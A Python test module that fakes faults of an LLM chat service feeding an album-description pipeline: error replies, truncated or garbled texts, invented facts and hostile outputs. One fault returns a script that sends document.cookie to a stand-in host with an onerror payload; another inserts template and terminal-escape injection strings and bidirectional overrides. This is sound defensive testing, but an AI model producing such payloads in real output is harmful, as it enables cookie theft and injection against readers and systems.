"""Faults of Euria's service: refusals in both error families, answers without a usable text, and texts that must never
be published: what models were seen to write, and worse.
"""

import re
from collections.abc import Callable
from typing import Any

from enrichment.sandbox import writer
from enrichment.sandbox.euria import backend_error, envelope, invalid, unknown_model
from enrichment.sandbox.faults.fault import Call, change, kind
from enrichment.sandbox.service import Reply, html

CHAT = ("chat",)

Rewrite = Callable[[str, Call], str]
HOSTILE: dict[str, Rewrite] = {}
OTHER_SUBJECT = writer.Prompt("en", "the same for all", "", "", "", (), ())


kind("wrong_key", "401 not_authorized", "euria")(lambda _: envelope(401, "not_authorized", "Authorization required"))
kind("missing_scope", "403 invalid_scope_token", "euria")(
    lambda _: envelope(403, "invalid_scope_token", "missing_ai_tools_scope")
)
kind("no_credit", "402 payment_required", "euria")(lambda _: envelope(402, "payment_required", "Credit exhausted"))
kind("wrong_path", "404 method_not_found", "euria")(lambda _: envelope(404, "method_not_found", "Method not found"))
kind("html_404", "404 with the web site's page", "euria")(lambda _: html(404, "Page introuvable"))
kind("invalid_content", "422 with the list of fields", "euria", on=CHAT)(
    lambda _: invalid("validation_rule_string", "messages.0.content")
)
kind("too_long_context", "400 of the model server, code as a number", "euria", on=CHAT)(
    lambda _: backend_error(400, "This model's maximum context length is 65536 tokens.", "BadRequestError")
)
kind("error_in_200", "an error envelope with status 200", "euria")(
    lambda _: envelope(200, "server_error", "An error occurred")
)


@kind("echoed_key", "401 that repeats the key it was given", "euria")
def echoed_key(call: Call) -> Reply:
    given = call.request.headers.get("authorization", "")
    return backend_error(401, f"Incorrect API key provided: {given}", "AuthenticationError")


@kind("unknown_model", "the model asked for is not served (form=nested, flat or 400) nor listed", "euria")
def missing_model(call: Call) -> Reply:
    if call.endpoint == "models":
        reply, document = call.document()
        if document:
            document["data"] = document["data"][1:]
        return reply
    asked = call.request.json
    model = str(asked.get("model")) if isinstance(asked, dict) else ""
    message = f"The model `{model}` does not exist."
    flat = {"object": "error", "message": message, "type": "NotFoundError", "param": None, "code": 404}
    forms = {"flat": Reply(404, flat), "400": backend_error(400, message, "BadRequestError")}
    return forms.get(call.option("form", "nested")) or unknown_model(model)


@change("empty_choices", "no choice at all", "euria", on=CHAT)
def empty_choices(document: Any, _call: Call) -> None:
    document["choices"] = []


def changed(call: Call, message: dict[str, Any], finish_reason: str | None = "stop") -> Reply:
    """The regular completion with another message and reason."""
    reply, document = call.document()
    if document:
        choice = document["choices"][0]
        choice["message"] |= message
        choice["finish_reason"] = finish_reason
    return reply


def content(call: Call) -> str:
    """The text of the regular completion; empty when there is none."""
    _, document = call.document()
    return str(document["choices"][0]["message"]["content"]) if document else ""


@kind("null_content", "content null, finish_reason length: the thoughts used up the cap", "euria", on=CHAT)
def null_content(call: Call) -> Reply:
    return changed(call, {"content": None, "reasoning": "The user wants a text. Let me think..."}, "length")


@kind("reasoning_field", "thoughts beside the text, field=reasoning (reasoning_content)", "euria", on=CHAT)
def reasoning_field(call: Call) -> Reply:
    return changed(call, {call.option("field", "reasoning"): "The user wants a text about an album."})


@kind("truncated", "cut in mid-sentence, finish_reason length", "euria", on=CHAT)
def truncated(call: Call) -> Reply:
    return changed(call, {"content": content(call)[:700].rstrip(" .!?")}, "length")


@kind("unknown_finish", "a whole text with finish_reason reason=model_dependent (null)", "euria", on=CHAT)
def unknown_finish(call: Call) -> Reply:
    reason = call.option("reason", "model_dependent")
    return changed(call, {}, None if reason == "null" else reason)


def text(name: str, about: str) -> Callable[[Rewrite], Rewrite]:
    """Registers a rewriting of the regular text as a fault of its own, and as a part of `hostile`."""

    def register(rewrite: Rewrite) -> Rewrite:
        def spoil(call: Call) -> Reply:
            return changed(call, {"content": rewrite(content(call), call)})

        kind(name, about, "euria", on=CHAT)(spoil)
        HOSTILE[name] = rewrite
        return rewrite

    return register


@kind("hostile", "every bad text of this list, one after the other", "euria", on=CHAT)
def hostile(call: Call) -> Reply:
    rewrites = list(HOSTILE.values())
    return changed(call, {"content": rewrites[call.turn % len(rewrites)](content(call), call)})


def wordy(passage: str) -> Rewrite:
    """A rewriting that puts `passage` behind the first sentence."""
    return lambda text, _call: re.sub(r"(?<=[.!?]) ", f" {passage} ", text, count=1)


@text("cut_text", "stops in mid-sentence, though finish_reason says stop")
def cut_text(text: str, _call: Call) -> str:
    return " ".join(text.split()[:-7]).rstrip(".,;:!?")


@text("short_text", "two sentences")
def short_text(text: str, _call: Call) -> str:
    return " ".join(re.split(r"(?<=[.!?]) ", text)[:2])


@text("markdown", "a heading, bold words and a list")
def markdown(text: str, _call: Call) -> str:
    words = text.split()
    return (
        f"## Album\n\n**{' '.join(words[:3])}** {' '.join(words[3:])}\n\n- *{words[0]}*\n- [link](https://example.com)"
    )


@text("fenced", "the text in a code fence")
def fenced(text: str, _call: Call) -> str:
    return f"```text\n{text}\n```"


@text("wrong_language", "German, or French when German was asked for")
def wrong_language(_text: str, call: Call) -> str:
    body = call.request.json
    asked = writer.understood(body["messages"]) if isinstance(body, dict) else OTHER_SUBJECT
    other = "fr" if asked.language == "de" else "de"
    return writer.written(writer.Prompt(other, asked.subject, asked.album, asked.artist, "", (), ()))


@text("html_text", "markup and a script")
def html_text(text: str, _call: Call) -> str:
    return (
        f"<p>{text}</p><script>fetch('https://example.com/?c=' + document.cookie)</script><img src=x onerror=alert(1)>"
    )


@text("long_text", "more than 5,000 words")
def long_text(text: str, _call: Call) -> str:
    return "\n\n".join([text] * (5_000 // len(text.split()) + 2)) if text else ""


@text("apology", "says that it cannot")
def apology(_text: str, _call: Call) -> str:
    sentence = "I'm sorry, but as an AI language model I cannot write about this album without more information. "
    return (sentence * 10).strip()


@text("preamble", "speaks about itself before and after")
def preamble(text: str, _call: Call) -> str:
    return f"Sure! Here is the description you asked for:\n\n{text}\n\nLet me know if you would like another version!"


@text("thinking", "thoughts in a closed <think> before the text")
def thinking(text: str, _call: Call) -> str:
    return f"<think>The user wants a text. Let me count the words first.</think>\n{text}"


@text("unclosed_thinking", "thoughts that never end")
def unclosed_thinking(text: str, _call: Call) -> str:
    return f"<think>The user wants a text. I should write about style. {text}"


@text("prompt_echo", "repeats the prompt")
def prompt_echo(_text: str, call: Call) -> str:
    body = call.request.json
    return "\n".join(message["content"] for message in body["messages"]) if isinstance(body, dict) else ""


@text("quoted_text", "the whole text in quotation marks, with a count of its characters")
def quoted_text(text: str, _call: Call) -> str:
    return f'"{text}"\n\n({len(text)} characters)'


@text("same_text", "the same text for every album")
def same_text(_text: str, call: Call) -> str:
    body = call.request.json
    language = writer.understood(body["messages"]).language if isinstance(body, dict) else "en"
    return writer.written(writer.Prompt(language, "the same for all", "", "", "", (), ()))


@text("control_characters", "control characters and bidirectional overrides between the words")
def control_characters(text: str, _call: Call) -> str:
    return text.replace(" ", " \u202e\x07", 5).replace(". ", ".\x00\u2066 ", 2)


text("invented_year", "a year that was not given")(wordy("It was recorded in 1871 and 1872."))
text("invented_track", "a song that was not given")(wordy("The single “Moonlit Bicycle Parade” was a hit."))
text("injection", "markup of templates and of a terminal")(wordy("{{ 7*7 }} ${7*7} \x1b[31mred\x1b[0m {% debug %}"))
